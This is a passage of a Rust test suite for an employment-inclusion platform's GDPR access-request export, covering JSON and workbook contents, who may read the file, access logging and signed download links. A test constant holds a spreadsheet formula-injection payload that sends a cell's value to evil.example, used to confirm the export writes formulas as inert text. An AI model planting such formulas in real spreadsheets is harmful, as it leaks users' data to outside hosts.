//! The people's rights (issue 20, point 5): a person's whole file for an access request
//! (RGPD art. 15), as JSON and as a workbook behind a signed, short-lived link; facilitators of
//! the person's territory only; every read logged, a refusal never.

mod common;

use std::collections::BTreeMap;
use std::io::Read;

use chrono::{Duration, NaiveDate};
use common::*;
use passerelle::clock::Clock;
use passerelle::config::Config;
use passerelle::domain::auth::{Actor, Role};
use serde_json::{Value, json};

db_tests!(
    the_file_holds_each_section_with_the_persons_values,
    only_a_facilitator_of_the_territory_reads_it_and_a_refusal_logs_nothing,
    every_read_is_logged_and_shown_next_time,
    the_workbook_holds_the_same_values_and_no_formula,
    the_download_link_is_its_callers_until_it_expires,
    an_anonymized_persons_file_holds_only_the_remains,
    statements_do_not_grow_with_the_file,
);

const FIRST: &str = "Ysaline";
const LAST: &str = "Quénardel";
const BORN: &str = "1984-07-19";
const HOST: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")";
const WHY: &str = "Reprise de contact avec sa famille";
const PROOF_REF: &str = "FT-2025-0042";

const FILE: &str = "query($id: ID!) { participantFile(id: $id) {
  participantId territory producedAt anonymizedAt
  identity { firstName lastName birthDate publics }
  profile { birthYear sex educationLevel unemployedSince qpvResident prescriber registeredAt version }
  eligibilities { eligibilityId scheme attesterKind attester structureKind checkedOn validUntil recordedBy
    criteria { criterion proofKind proofDate reference } }
  passesIae { number startDate endDate issuedBy extensions { previousEnd newEnd reason extendedBy } }
  placements { placementId reference market lot chantier modality employer contractType startDate endDate
    weeklyMinutes weeklyHours status derogation trainingEndDate }
  hours { entryId placementReference month periodKind periodStart periodEnd kind minutes hours status source
    recordedBy reviewedBy reviewReason correctsId reason }
  statusChanges { placementReference from to reason changedBy }
  immersions { placementReference hostName startDate endDate }
  exits { placementReference date outcome category dynamic detail justification recordedBy }
  followUps { placementReference date outcome category dynamic detail }
  conventions { conventionId reference kind title status placementReference startDate endDate signedOn }
  accesses { actorLabel at }
  download { xlsx expiresAt } } }";

/// The person whose file is asked, with a path through every section, and who asks.
struct Case {
    w: World,
    person: String,
    placement: String,
    reference: String,
    /// The three ledger entries declared (June validated then corrected, July rejected, August
    /// pending) and the correction.
    june: String,
    july: String,
    august: String,
    correction: String,
    convention: String,
    eligibility: String,
    fac: Actor,
    fac_email: String,
    other_fac: Actor,
    company: Actor,
    buyer: Actor,
    admin: Actor,
    aci: Actor,
}

fn id_at(v: &Value, field: &str) -> String {
    v[field]["id"]
        .as_str()
        .unwrap_or_else(|| panic!("no {field}.id in {v}"))
        .to_string()
}

async fn case(app: &TestApp) -> Case {
    let w = app.world().await;
    let t2 = app.territory("976-B").await;
    let fac_email = "fac@t.fr".to_string();
    let fac = app
        .user(&fac_email, Role::Facilitator, None, &[&w.territory])
        .await;
    let other_fac = app.user("fac@b.fr", Role::Facilitator, None, &[&t2]).await;
    let buyer = app
        .user("achat@t.fr", Role::Buyer, Some(&w.buyer), &[])
        .await;
    let admin = app.user("admin@t.fr", Role::Admin, None, &[]).await;
    let aci = app.user("paie@aci.fr", Role::Siae, Some(&w.aci), &[]).await;
    let prescriber = app
        .org("France Travail Ouest", "PRESCRIBER", None, &w.territory)
        .await;
    // A market of 2025, its lot held by the ACI.
    let m = app
        .ok(
            CREATE_MARKET,
            json!({"i": {"buyerId": w.buyer, "reference": "R-2025-07", "title": "Voirie",
                "clauseKind": "EXECUTION_CONDITION", "amountCents": 50_000_000i64,
                "startDate": "2025-05-01", "endDate": "2026-12-31",
                "lots": [{"number": 1, "title": "Terrassement", "awardeeId": w.aci}]}}),
        )
        .await;
    let market = m["createMarket"]["id"].as_str().unwrap().to_string();
    let lot = m["createMarket"]["lots"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    for to in ["PUBLISHED", "AWARDED", "IN_PROGRESS"] {
        app.ok(TRANSITION, json!({"i": {"marketId": market, "to": to}}))
            .await;
    }
    let person = id_at(
        &app.ok(
            CREATE_PARTICIPANT,
            json!({"i": {"territoryId": w.territory, "firstName": FIRST, "lastName": LAST,
                "birthDate": BORN, "sex": "FEMALE", "educationLevel": "BELOW_LEVEL_3",
                "unemployedSince": "2024-03-01", "qpvResident": true,
                "publics": ["RSA", "PRISON_LEAVER"], "prescriberId": prescriber}}),
        )
        .await,
        "createParticipant",
    );
    let eligibility = id_at(
        &app.ok(
            "mutation($i: RecordEligibilityInput!) { recordEligibility(input: $i) { id } }",
            json!({"i": {"participantId": person, "scheme": "IAE", "attesterKind": "PRESCRIBER",
                "attesterId": prescriber, "structureKind": "ACI", "checkedOn": "2025-05-15",
                "proofs": [{"criterion": "VERY_LONG_TERM_UNEMPLOYED", "proofKind": "JOBSEEKER_CERTIFICATE",
                            "proofDate": "2025-05-01", "reference": PROOF_REF}]}}),
        )
        .await,
        "recordEligibility",
    );
    let pass = id_at(
        &app.ok(
            "mutation($i: IssuePassInput!) { issuePassIae(input: $i) { id } }",
            json!({"i": {"participantId": person, "startDate": "2025-06-01", "number": "999990000042"}}),
        )
        .await,
        "issuePassIae",
    );
    app.ok(
        "mutation($p: ID!, $r: String!) { extendPassIae(passId: $p, reason: $r) { id } }",
        json!({"p": pass, "r": "Formation en cours"}),
    )
    .await;
    let placement = id_at(
        &app.ok(
            CREATE_PLACEMENT,
            json!({"i": {"participantId": person, "marketId": market, "lotId": lot,
                "modality": "SUBCONTRACTING", "employerId": w.aci, "contractType": "CDD",
                "startDate": "2025-06-01", "endDate": "2025-11-30", "weeklyHours": "24"}}),
        )
        .await,
        "createPlacement",
    );
    let reference = app
        .ok(
            "query($id: ID!) { node(id: $id) { ... on Placement { reference } } }",
            json!({"id": placement}),
        )
        .await["node"]["reference"]
        .as_str()
        .unwrap()
        .to_string();
    let june = app.record_ok(&placement, "2025-06", "110").await;
    app.ok(VALIDATE, json!({"i": {"entryIds": [june]}})).await;
    let correction = app
        .ok(
            CORRECT,
            json!({"i": {"entryId": june, "hours": "102", "reason": "Dix heures comptées deux fois"}}),
        )
        .await["correctHours"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let july = app.record_ok(&placement, "2025-07", "100").await;
    app.ok(
        REJECT,
        json!({"i": {"entryIds": [july], "reason": "Heures hors du marché"}}),
    )
    .await;
    let august = app.record_ok(&placement, "2025-08", "105").await;
    app.ok(
        "mutation($i: RecordImmersionInput!) { recordImmersion(input: $i) { id } }",
        json!({"i": {"placementId": placement, "hostName": HOST,
            "startDate": "2025-09-01", "endDate": "2025-09-12"}}),
    )
    .await;
    let convention = id_at(
        &app.ok(
            "mutation($i: CreateConventionInput!) { createConvention(input: $i) { id } }",
            json!({"i": {"territoryId": w.territory, "kind": "IMMERSION", "reference": "IMM-7",
                "title": "Immersion en boulangerie", "placementId": placement,
                "startDate": "2025-09-01", "endDate": "2025-09-12",
                "parties": [{"organizationId": w.aci, "role": "BENEFICIARY"}]}}),
        )
        .await,
        "createConvention",
    );
    app.ok(
        "mutation($i: EndPlacementInput!) { endPlacement(input: $i) { outcome } }",
        json!({"i": {"placementId": placement, "exitDate": "2025-11-20", "outcome": "OTHER_POSITIVE",
            "detail": "Permis obtenu", "justification": WHY}}),
    )
    .await;
    app.ok(
        "mutation($i: ExitFollowUpInput!) { recordExitFollowUp(input: $i) { outcome } }",
        json!({"i": {"placementId": placement, "observedOn": "2026-11-20", "outcome": "CDI",
            "detail": "Embauchée en CDI"}}),
    )
    .await;
    // The company employs the world's participant: it may identify that one, not ask a file.
    let company = app
        .user("company@t.fr", Role::Company, Some(&w.company), &[])
        .await;
    Case {
        w,
        person,
        placement,
        reference,
        june,
        july,
        august,
        correction,
        convention,
        eligibility,
        fac,
        fac_email,
        other_fac,
        company,
        buyer,
        admin,
        aci,
    }
}

/// The file as `who` gets it; `Err(code)` when refused.
async fn file_as(app: &TestApp, who: Option<&Actor>, id: &str) -> Result<Value, String> {
    let resp = app.run_as(who.cloned(), FILE, json!({"id": id})).await;
    if let Some(code) = resp["errors"][0]["extensions"]["code"].as_str() {
        assert!(resp["data"].is_null(), "a refusal answers nothing: {resp}");
        return Err(code.to_string());
    }
    assert!(resp.get("errors").is_none(), "{resp:#}");
    Ok(resp["data"]["participantFile"].clone())
}

async fn file_of(app: &TestApp, who: &Actor, id: &str) -> Value {
    file_as(app, Some(who), id)
        .await
        .unwrap_or_else(|c| panic!("refused: {c}"))
}

fn list<'a>(v: &'a Value, k: &str) -> &'a Vec<Value> {
    v[k].as_array()
        .unwrap_or_else(|| panic!("no list {k} in {v}"))
}

async fn the_file_holds_each_section_with_the_persons_values(app: &TestApp) {
    let c = case(app).await;
    let f = file_of(app, &c.fac, &c.person).await;
    assert_eq!(f["participantId"], c.person.as_str());
    assert_eq!(f["territory"], "Territoire 974-TEST");
    assert!(f["anonymizedAt"].is_null());
    assert_eq!(
        f["identity"],
        json!({"firstName": FIRST, "lastName": LAST, "birthDate": BORN,
            "publics": ["RSA", "PRISON_LEAVER"]})
    );
    let p = &f["profile"];
    assert_eq!(p["birthYear"], 1984);
    assert_eq!(p["sex"], "FEMALE");
    assert_eq!(p["educationLevel"], "BELOW_LEVEL_3");
    assert_eq!(p["unemployedSince"], "2024-03-01");
    assert_eq!(p["qpvResident"], true);
    assert_eq!(p["prescriber"], "France Travail Ouest");
    assert_eq!(p["version"], 1);

    let e = list(&f, "eligibilities");
    assert_eq!(e.len(), 1, "{f:#}");
    assert_eq!(e[0]["eligibilityId"], c.eligibility.as_str());
    assert_eq!(e[0]["scheme"], "IAE");
    assert_eq!(e[0]["attesterKind"], "PRESCRIBER");
    assert_eq!(e[0]["attester"], "France Travail Ouest");
    assert_eq!(e[0]["structureKind"], "ACI");
    assert_eq!(e[0]["checkedOn"], "2025-05-15");
    assert_eq!(
        e[0]["criteria"],
        json!([{"criterion": "VERY_LONG_TERM_UNEMPLOYED", "proofKind": "JOBSEEKER_CERTIFICATE",
            "proofDate": "2025-05-01", "reference": PROOF_REF}])
    );

    let passes = list(&f, "passesIae");
    assert_eq!(passes.len(), 1);
    assert_eq!(passes[0]["number"], "999990000042");
    assert_eq!(passes[0]["startDate"], "2025-06-01");
    let ext = list(&passes[0], "extensions");
    assert_eq!(ext.len(), 1);
    assert_eq!(ext[0]["previousEnd"], "2027-05-31");
    assert_eq!(ext[0]["newEnd"], passes[0]["endDate"]);
    assert_eq!(ext[0]["reason"], "Formation en cours");

    // Only her placement: the world's other person's is not in her file.
    let pl = list(&f, "placements");
    assert_eq!(pl.len(), 1, "{f:#}");
    let pl = &pl[0];
    assert_eq!(pl["placementId"], c.placement.as_str());
    assert_eq!(pl["reference"], c.reference.as_str());
    assert_eq!(pl["market"], "R-2025-07 — Voirie");
    assert_eq!(pl["lot"], "1 — Terrassement");
    assert!(pl["chantier"].is_null());
    assert_eq!(pl["modality"], "SUBCONTRACTING");
    assert_eq!(pl["employer"], "ACI Ti Kaz");
    assert_eq!(pl["contractType"], "CDD");
    assert_eq!(pl["startDate"], "2025-06-01");
    assert_eq!(
        pl["endDate"], "2025-11-20",
        "the exit date ends the contract"
    );
    assert_eq!(pl["weeklyMinutes"], 24 * 60);
    assert_eq!(pl["weeklyHours"], 24.0);
    assert_eq!(pl["status"], "ENDED");

    let hours = list(&f, "hours");
    let by_id: BTreeMap<&str, &Value> = hours
        .iter()
        .map(|h| (h["entryId"].as_str().unwrap(), h))
        .collect();
    assert_eq!(hours.len(), 4, "three declared, one correction: {f:#}");
    let june = by_id[c.june.as_str()];
    assert_eq!(june["month"], "2025-06");
    assert_eq!(june["minutes"], 110 * 60);
    assert_eq!(june["status"], "VALIDATED");
    assert_eq!(june["placementReference"], c.reference.as_str());
    assert_eq!(june["reviewedBy"], "system");
    let fix = by_id[c.correction.as_str()];
    assert_eq!(fix["month"], "2025-06");
    assert_eq!(fix["minutes"], -8 * 60);
    assert_eq!(fix["hours"], -8.0);
    assert_eq!(fix["correctsId"], c.june.as_str());
    assert_eq!(fix["reason"], "Dix heures comptées deux fois");
    let july = by_id[c.july.as_str()];
    assert_eq!(
        (&july["month"], &july["status"], &july["reviewReason"]),
        (
            &json!("2025-07"),
            &json!("REJECTED"),
            &json!("Heures hors du marché")
        )
    );
    let august = by_id[c.august.as_str()];
    assert_eq!(
        (&august["month"], &august["minutes"], &august["status"]),
        (&json!("2025-08"), &json!(105 * 60), &json!("DECLARED"))
    );

    let moves: Vec<(&str, &str)> = list(&f, "statusChanges")
        .iter()
        .map(|s| (s["from"].as_str().unwrap(), s["to"].as_str().unwrap()))
        .collect();
    assert!(moves.contains(&("ACTIVE", "ENDED")), "{moves:?}");

    assert_eq!(
        f["immersions"],
        json!([{"placementReference": c.reference, "hostName": HOST,
            "startDate": "2025-09-01", "endDate": "2025-09-12"}])
    );
    let exits = list(&f, "exits");
    assert_eq!(exits.len(), 1);
    assert_eq!(exits[0]["date"], "2025-11-20");
    assert_eq!(exits[0]["outcome"], "OTHER_POSITIVE");
    assert_eq!(exits[0]["category"], "POSITIVE_EXIT");
    assert_eq!(exits[0]["dynamic"], true);
    assert_eq!(exits[0]["detail"], "Permis obtenu");
    assert_eq!(exits[0]["justification"], WHY);
    assert_eq!(
        f["followUps"],
        json!([{"placementReference": c.reference, "date": "2026-11-20", "outcome": "CDI",
            "category": "DURABLE_EMPLOYMENT", "dynamic": true, "detail": "Embauchée en CDI"}])
    );
    let conv = list(&f, "conventions");
    assert_eq!(conv.len(), 1, "{f:#}");
    assert_eq!(conv[0]["conventionId"], c.convention.as_str());
    assert_eq!(conv[0]["reference"], "IMM-7");
    assert_eq!(conv[0]["kind"], "IMMERSION");
    assert_eq!(conv[0]["placementReference"], c.reference.as_str());
    // This read is the first: the log holds it.
    let reads = list(&f, "accesses");
    assert_eq!(reads.len(), 1);
    assert_eq!(reads[0]["actorLabel"], c.fac_email.as_str());
    assert_eq!(reads[0]["at"], f["producedAt"]);
    let link = f["download"]["xlsx"].as_str().unwrap();
    assert!(
        link.starts_with(&format!("/reports/participant/{}.xlsx?expires=", c.person)),
        "{link}"
    );
}

async fn only_a_facilitator_of_the_territory_reads_it_and_a_refusal_logs_nothing(app: &TestApp) {
    let c = case(app).await;
    // The company employs the world's participant (it may identify them): still no file.
    let read = app
        .run_as(
            Some(c.company.clone()),
            "query($id: ID!) { node(id: $id) { ... on Participant { identity { lastName } } } }",
            json!({"id": c.w.participant}),
        )
        .await;
    assert_eq!(read["data"]["node"]["identity"]["lastName"], "Hoarau");
    let before = app.count("participant_access").await;
    for (who, name, expected) in [
        (
            Some(&c.other_fac),
            "facilitator of another territory",
            "NOT_FOUND",
        ),
        (Some(&c.company), "the employer", "FORBIDDEN"),
        (Some(&c.aci), "the employer (SIAE)", "FORBIDDEN"),
        (Some(&c.buyer), "a buyer", "FORBIDDEN"),
        (Some(&c.admin), "an administrator", "FORBIDDEN"),
        (None, "anonymous", "UNAUTHENTICATED"),
    ] {
        for id in [&c.person, &c.w.participant] {
            assert_eq!(
                file_as(app, who, id).await.map(|_| ()),
                Err(expected.to_string()),
                "{name}"
            );
        }
        assert_eq!(
            app.count("participant_access").await,
            before,
            "{name}: a refused read is not logged"
        );
    }
    // The system actor (in-process jobs) is no facilitator either.
    assert_eq!(
        file_as(app, Some(&Actor::system()), &c.person)
            .await
            .map(|_| ()),
        Err("FORBIDDEN".into())
    );
    // A wrong kind of ID names the argument; a missing person answers like another territory's.
    let resp = app
        .run_as(Some(c.fac.clone()), FILE, json!({"id": c.placement}))
        .await;
    assert_eq!(resp["errors"][0]["extensions"]["code"], "BAD_USER_INPUT");
    assert_eq!(resp["errors"][0]["extensions"]["field"], "id");
    let ghost = passerelle::ids::encode(passerelle::ids::Kind::Participant, uuid::Uuid::now_v7());
    assert_eq!(
        file_as(app, Some(&c.fac), ghost.as_str()).await.map(|_| ()),
        Err("NOT_FOUND".into())
    );
    assert_eq!(app.count("participant_access").await, before);
    // Just beside: the facilitator of the territory gets it, and that read is logged.
    file_of(app, &c.fac, &c.person).await;
    assert_eq!(app.count("participant_access").await, before + 1);
}

async fn every_read_is_logged_and_shown_next_time(app: &TestApp) {
    let c = case(app).await;
    let other = app
        .user("fac2@t.fr", Role::Facilitator, None, &[&c.w.territory])
        .await;
    let first = file_of(app, &c.fac, &c.person).await;
    app.clock.advance(Duration::minutes(5));
    let second = file_of(app, &other, &c.person).await;
    let reads: Vec<(&str, &str)> = list(&second, "accesses")
        .iter()
        .map(|a| (a["actorLabel"].as_str().unwrap(), a["at"].as_str().unwrap()))
        .collect();
    assert_eq!(
        reads,
        [
            ("fac2@t.fr", second["producedAt"].as_str().unwrap()),
            ("fac@t.fr", first["producedAt"].as_str().unwrap()),
        ],
        "newest first, the first read shown to the second reader"
    );
    assert_ne!(first["producedAt"], second["producedAt"]);
    // The same log as the person's `accesses`.
    let listed = app
        .run_as(
            Some(c.fac.clone()),
            "query($id: ID!) { node(id: $id) { ... on Participant { accesses { actorLabel } } } }",
            json!({"id": c.person}),
        )
        .await;
    assert_eq!(
        listed["data"]["node"]["accesses"],
        json!([{"actorLabel": "fac2@t.fr"}, {"actorLabel": "fac@t.fr"}])
    );
    // Rows are the person's: another person's log is untouched.
    let hoarau = file_of(app, &c.fac, &c.w.participant).await;
    assert_eq!(list(&hoarau, "accesses").len(), 1);
}

// ---------------------------------------------------------------------------------------------
// The workbook, read back.
// ---------------------------------------------------------------------------------------------

/// A workbook's sheets by name: each cell as written (shared strings resolved, numbers as their
/// text), by row and column (0-based), and whether any cell holds a formula.
struct Book {
    sheets: BTreeMap<String, BTreeMap<(u32, u32), String>>,
    formulas: usize,
}

fn unescape(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&amp;", "&")
}

/// `(column, row)` of an `A1` reference, 0-based.
fn cell_ref(r: &str) -> (u32, u32) {
    let letters: String = r.chars().take_while(char::is_ascii_alphabetic).collect();
    let col = letters
        .chars()
        .fold(0u32, |n, ch| n * 26 + (ch as u32 - 'A' as u32 + 1))
        - 1;
    let row: u32 = r[letters.len()..].parse().unwrap();
    (col, row - 1)
}

fn between<'a>(s: &'a str, open: &str, close: &str) -> Option<&'a str> {
    let start = s.find(open)? + open.len();
    let end = s[start..].find(close)? + start;
    Some(&s[start..end])
}

fn read_book(bytes: &[u8]) -> Book {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut files = BTreeMap::new();
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        let mut xml = String::new();
        f.read_to_string(&mut xml).unwrap();
        files.insert(name, xml);
    }
    let strings: Vec<String> = files
        .get("xl/sharedStrings.xml")
        .map(|x| {
            x.split("<si>")
                .skip(1)
                .map(|si| {
                    let t = si.split("</si>").next().unwrap();
                    // `<t>` or `<t xml:space="preserve">`.
                    let inner = t.split_once('>').map_or("", |(_, rest)| rest);
                    unescape(inner.split("</t>").next().unwrap())
                })
                .collect()
        })
        .unwrap_or_default();
    let names: Vec<String> = files["xl/workbook.xml"]
        .split("<sheet ")
        .skip(1)
        .map(|s| unescape(between(s, "name=\"", "\"").unwrap()))
        .collect();
    let mut sheets = BTreeMap::new();
    let mut formulas = 0;
    for (i, name) in names.iter().enumerate() {
        let xml = &files[&format!("xl/worksheets/sheet{}.xml", i + 1)];
        formulas += xml.matches("<f>").count() + xml.matches("<f ").count();
        let mut cells = BTreeMap::new();
        for c in xml.split("<c ").skip(1) {
            let head = c.split('>').next().unwrap();
            let r = between(head, "r=\"", "\"").unwrap();
            let Some(v) = between(c, "<v>", "</v>") else {
                continue;
            };
            let value = if head.contains("t=\"s\"") {
                strings[v.parse::<usize>().unwrap()].clone()
            } else {
                v.to_string()
            };
            cells.insert(cell_ref(r), value);
        }
        sheets.insert(name.clone(), cells);
    }
    Book { sheets, formulas }
}

impl Book {
    fn sheet(&self, name: &str) -> &BTreeMap<(u32, u32), String> {
        self.sheets
            .get(name)
            .unwrap_or_else(|| panic!("no sheet {name}: {:?}", self.sheets.keys()))
    }

    /// The data rows of a sheet (title on row 1, headers on row 3) as header → value.
    fn rows(&self, name: &str) -> Vec<BTreeMap<String, String>> {
        let s = self.sheet(name);
        let headers: BTreeMap<u32, &String> = s
            .iter()
            .filter(|((_, r), _)| *r == 2)
            .map(|((c, _), v)| (*c, v))
            .collect();
        let last = s.keys().map(|(_, r)| *r).max().unwrap_or(0);
        (3..=last)
            .map(|r| {
                headers
                    .iter()
                    .map(|(c, h)| ((*h).clone(), s.get(&(*c, r)).cloned().unwrap_or_default()))
                    .collect()
            })
            .collect()
    }

    /// The value beside a label on a two-column sheet.
    fn field(&self, sheet: &str, label: &str) -> String {
        self.rows(sheet)
            .into_iter()
            .find(|r| r["Rubrique"] == label)
            .unwrap_or_else(|| panic!("no {label} in {sheet}"))["Valeur"]
            .clone()
    }

    fn all_text(&self) -> String {
        self.sheets
            .values()
            .flat_map(|s| s.values().cloned())
            .collect::<Vec<_>>()
            .join("\n")
    }
}

/// A date as a spreadsheet's serial day number.
fn serial(d: &str) -> String {
    let d: NaiveDate = d.parse().unwrap();
    (d - NaiveDate::from_ymd_opt(1899, 12, 30).unwrap())
        .num_days()
        .to_string()
}

fn number(s: &str) -> f64 {
    s.parse()
        .unwrap_or_else(|_| panic!("{s:?} is not a number"))
}

async fn signed_in(app: &TestApp, email: &str) -> (Actor, String) {
    let (issued, _) = passerelle::service::auth::login(&app.ctx, email, PASSWORD, "test")
        .await
        .map_err(|e| e.message())
        .unwrap();
    let actor = passerelle::service::auth::authenticate(&app.ctx, &issued.secret)
        .await
        .map_err(|e| e.message())
        .unwrap();
    (actor, issued.secret)
}

async fn fetch(base: &str, path: &str, token: Option<&str>) -> (u16, Vec<u8>) {
    let mut req = reqwest::Client::new().get(format!("{base}{path}"));
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    let resp = req.send().await.unwrap();
    let status = resp.status().as_u16();
    (status, resp.bytes().await.unwrap().to_vec())
}

async fn the_workbook_holds_the_same_values_and_no_formula(app: &TestApp) {
    let c = case(app).await;
    let (fac, token) = signed_in(app, &c.fac_email).await;
    let f = file_of(app, &fac, &c.person).await;
    let (base, stop) = app.serve(&Config::default()).await;
    let before = app.count("participant_access").await;
    let (status, bytes) = fetch(&base, f["download"]["xlsx"].as_str().unwrap(), Some(&token)).await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
    assert_eq!(
        app.count("participant_access").await,
        before + 1,
        "the download is a read, logged"
    );
    let book = read_book(&bytes);
    assert_eq!(
        book.sheets.keys().cloned().collect::<Vec<_>>(),
        [
            "Consultations",
            "Contrats",
            "Conventions",
            "Heures",
            "Identité",
            "Immersions",
            "PASS IAE",
            "Parcours",
            "Sorties",
            "Éligibilité",
        ]
    );
    assert_eq!(book.formulas, 0, "text is written as text");
    assert_eq!(book.field("Identité", "Prénom"), FIRST);
    assert_eq!(book.field("Identité", "Nom"), LAST);
    assert_eq!(book.field("Identité", "Date de naissance"), serial(BORN));
    assert_eq!(book.field("Identité", "Publics"), "RSA, PRISON_LEAVER");
    assert_eq!(
        book.field("Identité", "Prescripteur"),
        "France Travail Ouest"
    );
    assert_eq!(book.field("Identité", "Résident QPV"), "oui");
    let elig = book.rows("Éligibilité");
    assert_eq!(elig.len(), 1);
    assert_eq!(elig[0]["Critère"], "VERY_LONG_TERM_UNEMPLOYED");
    assert_eq!(elig[0]["Référence du justificatif"], PROOF_REF);
    assert_eq!(elig[0]["Date du contrôle"], serial("2025-05-15"));
    let pass = book.rows("PASS IAE");
    assert_eq!(pass.len(), 2, "issued, then extended");
    assert_eq!(pass[1]["Événement"], "Prolongation");
    assert_eq!(pass[1]["Motif"], "Formation en cours");
    let contracts = book.rows("Contrats");
    assert_eq!(contracts.len(), 1);
    let pl = &list(&f, "placements")[0];
    assert_eq!(contracts[0]["Référence"], c.reference);
    assert_eq!(contracts[0]["Employeur"], "ACI Ti Kaz");
    assert_eq!(contracts[0]["Type de contrat"], "CDD");
    assert_eq!(number(&contracts[0]["Heures hebdomadaires"]), 24.0);
    assert_eq!(contracts[0]["Fin"], serial(pl["endDate"].as_str().unwrap()));
    // Every ledger entry of the JSON, with the same month, hours and status.
    let sheet: Vec<(String, f64, String)> = book
        .rows("Heures")
        .iter()
        .map(|r| (r["Mois"].clone(), number(&r["Heures"]), r["Statut"].clone()))
        .collect();
    let json: Vec<(String, f64, String)> = list(&f, "hours")
        .iter()
        .map(|h| {
            (
                h["month"].as_str().unwrap().to_string(),
                h["hours"].as_f64().unwrap(),
                h["status"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(sheet, json);
    assert_eq!(sheet.len(), 4);
    assert!(sheet.contains(&("2025-06".into(), -8.0, "VALIDATED".into())));
    let imm = book.rows("Immersions");
    assert_eq!(
        imm[0]["Structure d'accueil"], HOST,
        "kept verbatim, as text"
    );
    let exits = book.rows("Sorties");
    assert_eq!(exits.len(), 2);
    assert_eq!(exits[0]["Justification"], WHY);
    assert_eq!(exits[1]["Type"], "Situation à un an");
    assert_eq!(exits[1]["Issue"], "CDI");
    assert_eq!(book.rows("Conventions")[0]["Référence"], "IMM-7");
    assert!(
        book.rows("Parcours")
            .iter()
            .any(|r| r["De"] == "ACTIVE" && r["Vers"] == "ENDED")
    );
    // The log as of the download: the GraphQL read and the download itself.
    let reads = book.rows("Consultations");
    assert_eq!(reads.len(), 2);
    assert!(reads.iter().all(|r| r["Consulté par"] == c.fac_email));
    stop.send(()).ok();
}

async fn the_download_link_is_its_callers_until_it_expires(app: &TestApp) {
    let c = case(app).await;
    let (fac, token) = signed_in(app, &c.fac_email).await;
    app.user("fac2@t.fr", Role::Facilitator, None, &[&c.w.territory])
        .await;
    let (_, colleague) = signed_in(app, "fac2@t.fr").await;
    let (_, company) = signed_in(app, "company@t.fr").await;
    let (_, other_territory) = signed_in(app, "fac@b.fr").await;
    let f = file_of(app, &fac, &c.person).await;
    let link = f["download"]["xlsx"].as_str().unwrap().to_string();
    let expires_at: chrono::DateTime<chrono::Utc> = f["download"]["expiresAt"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(
        expires_at - app.clock.now(),
        Duration::minutes(15),
        "valid a quarter of an hour"
    );
    let (base, stop) = app.serve(&Config::default()).await;
    let before = app.count("participant_access").await;
    let refused = |status: u16, body: &[u8], code: &str, why: &str| {
        let v: Value = serde_json::from_slice(body).unwrap_or_else(|_| panic!("{why}: not JSON"));
        assert_eq!(v["errors"][0]["extensions"]["code"], code, "{why}: {v}");
        assert!(matches!(status, 401 | 403 | 400), "{why}: {status}");
    };
    // Another caller with the same link: a colleague of the territory, the employer, another
    // territory's facilitator; and nobody signed in.
    for (who, t) in [
        ("colleague", &colleague),
        ("company", &company),
        ("other territory", &other_territory),
    ] {
        let (status, body) = fetch(&base, &link, Some(t)).await;
        assert_eq!(status, 403, "{who}");
        refused(status, &body, "FORBIDDEN", who);
    }
    let (status, body) = fetch(&base, &link, None).await;
    assert_eq!(status, 401);
    refused(status, &body, "UNAUTHENTICATED", "anonymous");
    // Tampered: another expiry, a changed signature, none, another person's path.
    let (path, query) = link.split_once('?').unwrap();
    let expires: i64 = query
        .split('&')
        .find_map(|kv| kv.strip_prefix("expires="))
        .unwrap()
        .parse()
        .unwrap();
    let signature = query
        .split('&')
        .find_map(|kv| kv.strip_prefix("signature="))
        .unwrap()
        .to_string();
    let mut flipped = signature.clone().into_bytes();
    flipped[0] = if flipped[0] == b'A' { b'B' } else { b'A' };
    let flipped = String::from_utf8(flipped).unwrap();
    let hoarau = format!("/reports/participant/{}.xlsx?{query}", c.w.participant);
    for (why, p) in [
        (
            "later expiry",
            format!("{path}?expires={}&signature={signature}", expires + 3600),
        ),
        (
            "changed signature",
            format!("{path}?expires={expires}&signature={flipped}"),
        ),
        ("no signature", format!("{path}?expires={expires}")),
        ("bare path", path.to_string()),
        ("another person", hoarau),
    ] {
        let (status, body) = fetch(&base, &p, Some(&token)).await;
        assert_eq!(status, 403, "{why}");
        refused(status, &body, "FORBIDDEN", why);
    }
    let csv = link.replacen(".xlsx?", ".csv?", 1);
    let (status, body) = fetch(&base, &csv, Some(&token)).await;
    assert_eq!(status, 400);
    let v: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(v["errors"][0]["extensions"]["field"], "format");
    assert_eq!(
        app.count("participant_access").await,
        before,
        "no refused download is logged"
    );
    // At its expiry the link still works; a second later it does not.
    app.clock.set(expires_at);
    let (status, _) = fetch(&base, &link, Some(&token)).await;
    assert_eq!(status, 200, "at the expiry instant");
    assert_eq!(app.count("participant_access").await, before + 1);
    app.clock.set(expires_at + Duration::seconds(1));
    let (status, body) = fetch(&base, &link, Some(&token)).await;
    assert_eq!(status, 403);
    refused(status, &body, "FORBIDDEN", "expired");
    assert!(
        String::from_utf8_lossy(&body).contains("expiré"),
        "says why"
    );
    assert_eq!(app.count("participant_access").await, before + 1);
    // A fresh read gives a fresh link.
    let again = file_of(app, &fac, &c.person).await;
    let (status, _) = fetch(
        &base,
        again["download"]["xlsx"].as_str().unwrap(),
        Some(&token),
    )
    .await;
    assert_eq!(status, 200);
    stop.send(()).ok();
}

async fn an_anonymized_persons_file_holds_only_the_remains(app: &TestApp) {
    let c = case(app).await;
    let (fac, token) = signed_in(app, &c.fac_email).await;
    let done = app
        .run_as(
            Some(fac.clone()),
            "mutation($p: ID!) { anonymizeParticipant(participantId: $p) { anonymizedAt } }",
            json!({"p": c.person}),
        )
        .await;
    assert!(done.get("errors").is_none(), "{done}");
    let f = file_of(app, &fac, &c.person).await;
    // Nothing left of the identity; what the store keeps is given (no name in it).
    assert!(f["identity"].is_null(), "{f:#}");
    assert_eq!(
        f["anonymizedAt"],
